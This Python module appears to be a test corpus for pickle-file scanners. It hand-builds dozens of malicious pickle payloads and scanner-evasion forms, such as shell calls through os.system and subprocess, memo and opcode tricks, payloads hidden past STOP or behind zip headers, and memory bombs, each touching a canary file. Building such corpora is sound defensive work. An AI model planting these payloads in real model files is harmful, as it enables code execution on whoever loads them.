"""Malicious pickles, written out by hand after published reports on scanners of pickles; each would create the file at `CANARY`.

Sources of the ideas: the documentation of `pickle`; the advisories of picklescan (GHSA-655q-fx9r-782v, CVE-2025-1716 pip.main;
CVE-2025-1889 file extensions; CVE-2025-1944/1945 zip archives; CVE-2025-10155/10156/10157 prefixes, bad CRCs and submodules), of fickling
and of modelscan (missing names in block lists), "Sleepy Pickle" (Trail of Bits), and the broken pickles of nullifAI (ReversingLabs).
"""

from __future__ import annotations

import pickle
import struct

CANARY = "canary-was-here"
_CODE = f"open({CANARY!r}, 'w').close()"
_SHELL = f"touch {CANARY}"


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def named(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def call(module: str, name: str, *args: bytes) -> bytes:
    return named(module, name) + b"(" + b"".join(args) + b"tR"


def payload(body: bytes, protocol: int = 4) -> bytes:
    return b"\x80" + bytes((protocol,)) + body + b"."


EVAL = call("builtins", "eval", text(_CODE))
NONE = b"N"

# Names in the standard library and well-known packages that run code, with arguments that make them do it.
CALLS: dict[str, tuple[str, str, tuple[bytes, ...]]] = {
    "eval": ("builtins", "eval", (text(_CODE),)),
    "exec": ("builtins", "exec", (text(_CODE),)),
    "compile": ("builtins", "compile", (text(_CODE), text("x"), text("exec"))),
    "__import__": ("builtins", "__import__", (text("antigravity"),)),
    "getattr": ("builtins", "getattr", (named("os", "path"), text("os"))),
    "open": ("builtins", "open", (text(CANARY), text("w"))),
    "breakpoint": ("builtins", "breakpoint", ()),
    "map": ("builtins", "map", (named("os", "system"), b"(" + text(_SHELL) + b"l")),
    "type": ("builtins", "type", (text("X"), b")", b"}")),
    "os.system": ("os", "system", (text(_SHELL),)),
    "posix.system": ("posix", "system", (text(_SHELL),)),
    "nt.system": ("nt", "system", (text(_SHELL),)),
    "os.popen": ("os", "popen", (text(_SHELL),)),
    "os.execv": ("os", "execv", (text("/bin/true"), b"(" + text("true") + b"l")),
    "subprocess.run": ("subprocess", "run", (b"(" + text("touch") + text(CANARY) + b"l",)),
    "subprocess.Popen": ("subprocess", "Popen", (b"(" + text("touch") + text(CANARY) + b"l",)),
    "subprocess.getoutput": ("subprocess", "getoutput", (text(_SHELL),)),
    "pty.spawn": ("pty", "spawn", (text("/bin/true"),)),
    "runpy.run_path": ("runpy", "run_path", (text("/tmp/x.py"),)),
    "runpy._run_code": ("runpy", "_run_code", (text(_CODE), b"}")),
    "timeit.timeit": ("timeit", "timeit", (text(_CODE),)),
    "timeit.main": ("timeit", "main", (b"(" + text(_CODE) + b"l",)),
    "cProfile.run": ("cProfile", "run", (text(_CODE),)),
    "cProfile.runctx": ("cProfile", "runctx", (text(_CODE), b"}", b"}")),
    "profile.run": ("profile", "run", (text(_CODE),)),
    "pdb.run": ("pdb", "run", (text(_CODE),)),
    "bdb.Bdb": ("bdb", "Bdb", ()),
    "trace.Trace": ("trace", "Trace", ()),
    "code.InteractiveInterpreter": ("code", "InteractiveInterpreter", ()),
    "codeop": ("codeop", "compile_command", (text(_CODE),)),
    "pip.main": ("pip", "main", (b"(" + text("install") + text("x") + b"l",)),
    "pip._internal": ("pip._internal", "main", (b"(" + text("install") + text("x") + b"l",)),
    "ensurepip": ("ensurepip", "_run_pip", (b"(" + text("install") + b"l",)),
    "venv": ("venv", "create", (text("/tmp/x"),)),
    "distutils.spawn": ("distutils.spawn", "spawn", (b"(" + text("touch") + b"l",)),
    "setuptools": ("setuptools", "setup", ()),
    "importlib": ("importlib", "import_module", (text("antigravity"),)),
    "importlib.util": ("importlib.util", "spec_from_file_location", (text("x"), text("/tmp/x.py"))),
    "pkgutil.resolve_name": ("pkgutil", "resolve_name", (text("os:system"),)),
    "pydoc.locate": ("pydoc", "locate", (text("os.system"),)),
    "pydoc.pipepager": ("pydoc", "pipepager", (text(""), text(_SHELL))),
    "operator.attrgetter": ("operator", "attrgetter", (text("system"),)),
    "operator.methodcaller": ("operator", "methodcaller", (text("system"), text(_SHELL))),
    "_operator.methodcaller": ("_operator", "methodcaller", (text("system"), text(_SHELL))),
    "functools.partial": ("functools", "partial", (named("os", "system"), text(_SHELL))),
    "functools.reduce": ("functools", "reduce", (named("builtins", "eval"), b"(" + text(_CODE) + b"l")),
    "itertools.starmap": ("itertools", "starmap", (named("os", "system"), b"]")),
    "types.CodeType": ("types", "CodeType", ()),
    "types.FunctionType": ("types", "FunctionType", ()),
    "marshal.loads": ("marshal", "loads", (b"C\x00",)),
    "pickle.loads": ("pickle", "loads", (b"C\x00",)),
    "_pickle.loads": ("_pickle", "loads", (b"C\x00",)),
    "shelve.open": ("shelve", "open", (text("/tmp/x"),)),
    "ctypes.CDLL": ("ctypes", "CDLL", (text("libc.so.6"),)),
    "webbrowser.open": ("webbrowser", "open", (text("http://x"),)),
    "urllib": ("urllib.request", "urlopen", (text("http://x"),)),
    "http.client": ("http.client", "HTTPSConnection", (text("x"),)),
    "socket": ("socket", "create_connection", (text("x"),)),
    "smtplib": ("smtplib", "SMTP", (text("x"),)),
    "ssl.get_server_certificate": ("ssl", "get_server_certificate", (text("x"),)),
    "sys.exit": ("sys", "exit", ()),
    "shutil.rmtree": ("shutil", "rmtree", (text("/tmp/x"),)),
    "logging.config": ("logging.config", "listen", ()),
    "asyncio.subprocess": ("asyncio.unix_events", "_UnixSubprocessTransport._start", ()),
    "lib2to3": ("lib2to3.pgen2.grammar", "Grammar.loads", ()),
    "idlelib": ("idlelib.pyshell", "ModifiedInterpreter.runcode", ()),
    "idlelib.autocomplete": ("idlelib.autocomplete", "AutoComplete.get_entity", ()),
    "doctest": ("doctest", "debug_script", (text(_CODE),)),
    "test.support": ("test.support.script_helper", "assert_python_ok", (text("-c"), text(_CODE))),
    "unittest.mock": ("unittest.mock", "_importer", (text("os.system"),)),
    "numpy runstring": ("numpy.testing._private.utils", "runstring", (text(_CODE), b"}")),
    "numpy f2py": ("numpy.f2py.crackfortran", "myeval", (text(_CODE),)),
    "numpy load": ("numpy", "load", (text("/tmp/x"),)),
    "pandas eval": ("pandas", "eval", (text(_CODE),)),
    "pandas read_pickle": ("pandas", "read_pickle", (text("/tmp/x"),)),
    "torch load": ("torch", "load", (text("/tmp/x"),)),
    "torch inductor": ("torch._inductor.codecache", "compile_file", (text("x"),)),
    "torch bottleneck": ("torch.utils.bottleneck.__main__", "run_cprofile", (text(_CODE),)),
    "joblib": ("joblib.numpy_pickle", "load", (text("/tmp/x"),)),
    "copyreg": ("copyreg", "_reconstructor", (named("builtins", "object"), named("builtins", "object"), NONE)),
    "copyreg extension": ("copyreg", "add_extension", (text("os"), text("system"), b"K\x01")),
    "lambdapkl by value": ("lambdapkl.wire", "function", (b"C\x00",)),
    "lambdapkl file": ("lambdapkl.wire", "file", (text(CANARY), text("w"))),
    "lambdapkl module": ("lambdapkl.wire", "module", (text("antigravity"),)),
    "lambdapkl internals": ("lambdapkl.engines.install", "install", ()),
}

# Forms that hide a name, or do without one.
FORMS: dict[str, bytes] = {
    "name by GLOBAL": b"\x80\x02cos\nsystem\n" + text(_SHELL) + b"\x85R.",
    "protocol 0": b"cos\nsystem\n(S'" + _SHELL.encode() + b"'\ntR.",
    "INST": b"\x80\x02(" + text(_SHELL) + b"ios\nsystem\n.",
    "OBJ": b"\x80\x02(cos\nsystem\n" + text(_SHELL) + b"o.",
    "module of Python 2": b"\x80\x02c__builtin__\neval\n" + text(_CODE) + b"\x85R.",
    "dotted through a module": payload(call("numpy", "os.system", text(_SHELL))),
    "dotted through an allowed module": payload(call("collections", "_sys.modules", text("os"))),
    "dotted through an allowed class": payload(call("builtins", "dict.__class__", text("X"), b")", b"}")),
    "subclasses": payload(call("builtins", "object.__subclasses__")),
    "attribute of a method": payload(named("builtins", "dict.__init__.__objclass__.__subclasses__")),
    "name out of the memo": payload(
        text("os") + b"\x94" + text("system") + b"\x940" + b"0" + b"h\x00h\x01\x93" + text(_SHELL) + b"\x85R"
    ),
    "memo written twice": payload(
        text("collections") + b"q\x000" + text("os") + b"q\x000h\x00" + text("system") + b"\x93" + text(_SHELL) + b"\x85R"
    ),
    "memo out of order": payload(text("os") + b"q\x07" + text("system") + b"\x93" + text(_SHELL) + b"\x85R"),
    "DUP": payload(text("os") + b"2\x93"),
    "name made by a call": payload(call("_codecs", "encode", text("os"), text("latin1")) + text("system") + b"\x93"),
    "call of the result of a call": payload(call("collections", "defaultdict", named("builtins", "list")) + b")R"),
    "call of a string": payload(text("os.system") + b")R"),
    "call of a tuple": payload(b"))R"),
    "NEWOBJ": payload(named("os", "system") + text(_SHELL) + b"\x85\x81"),
    "NEWOBJ_EX": payload(named("subprocess", "Popen") + b")}" + text("args") + text(_SHELL) + b"s\x92"),
    "extension code": b"\x80\x02\x82\x01" + text(_SHELL) + b"\x85R.",
    "persistent id": b"\x80\x04" + text("x") + b"Q.",
    "persistent id in text": b"\x80\x02Pos.system\n.",
    "state of a class": payload(named("builtins", "dict") + b"}" + text("get") + NONE + b"sb"),
    "state of a list": payload(b"]}" + text("x") + NONE + b"sb"),
    "state with __class__": payload(
        call("collections", "OrderedDict") + b"}" + text("__class__") + named("builtins", "dict") + b"sb"
    ),
    "state with __reduce__": payload(
        call("collections", "deque") + b"}" + text("__reduce_ex__") + named("builtins", "list") + b"sb"
    ),
    "slots with __class__": payload(call("collections", "deque") + b"N}" + text("__class__") + NONE + b"s\x86b"),
    "item of a name": payload(named("builtins", "dict") + text("x") + b"K\x01s"),
    "append to a name": payload(named("builtins", "list") + b"K\x01a"),
    "item of os.environ": payload(named("os", "environ") + text("LD_PRELOAD") + text("/tmp/x.so") + b"s"),
    "item of sys.modules": payload(named("sys", "modules") + text("os") + NONE + b"s"),
    "harm before an error": b"\x80\x04" + EVAL + b"0\xff\xff",
    "harm before the end is cut": b"\x80\x04" + EVAL + b"0(",
    "harm without STOP": b"\x80\x04" + EVAL,
    "popped from the stack": payload(EVAL + b"0N"),
    "popped by the mark": payload(b"(" + EVAL + b"1N"),
    "in a second pickle": payload(NONE) + payload(EVAL),
    "bytes after the end": payload(NONE) + b"\n" + EVAL,
    "two values at the end": payload(EVAL + NONE),
    "protocol in the middle": payload(b"\x80\x02" + EVAL),
    "unknown protocol": b"\x80\x09" + EVAL + b".",
    "no protocol": EVAL + b".",
    "wrong frame": payload(b"\x95" + struct.pack("<Q", 1 << 40) + EVAL),
    "bytes of 2**60": payload(b"\x8e" + struct.pack("<Q", 1 << 60)),
    "text of 2**31": payload(b"X" + struct.pack("<I", 1 << 31)),
    "integer of 2**31 bytes": payload(b"\x8b" + struct.pack("<I", (1 << 31) - 1)),
    "integer in text": b"\x80\x02I" + b"9" * 100_000 + b"\n.",
    "memo entry 2**31": payload(NONE + b"r" + struct.pack("<I", (1 << 31) - 1)),
    "memory by bytearray": payload(call("builtins", "bytearray", b"\x8a\x05\x00\x00\x00\x00\x10")),
    "memory by bytes": payload(call("builtins", "bytes", b"\x8a\x05\x00\x00\x00\x00\x10")),
    "memory by list of range": payload(call("builtins", "list", call("builtins", "range", b"\x8a\x05\x00\x00\x00\x00\x10"))),
    "memory by an array": payload(
        call(
            "numpy._core.multiarray", "_reconstruct", named("numpy", "ndarray"), b"\x8a\x05\x00\x00\x00\x00\x10\x85", b"C\x01b"
        )
    ),
    "deep nesting": payload(b"]" * 100_000 + b"a" * 99_999),
    "deep tuples": payload(b")" + b"\x85" * 100_000),
    "hash of doubled tuples": payload(
        b"})" + b"\x942\x86".replace(b"2", b"h\x00") + b"".join(b"\x94h" + bytes((n,)) + b"\x86" for n in range(1, 60)) + b"Ns"
    ),
    "list as a key": payload(b"}]Ns"),
    "codec": payload(call("_codecs", "encode", text("x"), text("zip"))),
    "zip file": b"PK\x03\x04" + payload(EVAL),
    "gzip file": b"\x1f\x8b\x08" + payload(EVAL),
    "empty": b"",
    "STOP alone": b"\x80\x04.",
    "name with a line break": payload(call("os\n", "system", text(_SHELL))),
    "empty module": payload(call("", "eval", text(_CODE))),
    "relative module": payload(call(".os", "system", text(_SHELL))),
    "name that is no string": payload(b"K\x01K\x02\x93"),
    "surrogates": payload(call("o\udc73".encode("utf-8", "surrogatepass").decode("utf-8", "replace"), "system")),
}

BYPASSES: dict[str, bytes] = {
    **{f"calls {key}": payload(call(module, name, *args)) for key, (module, name, args) in CALLS.items()},
    **FORMS,
    "standard library by pickle": b"\x80\x02" + pickle.dumps(print, 2)[2:-1] + b")R.",
}
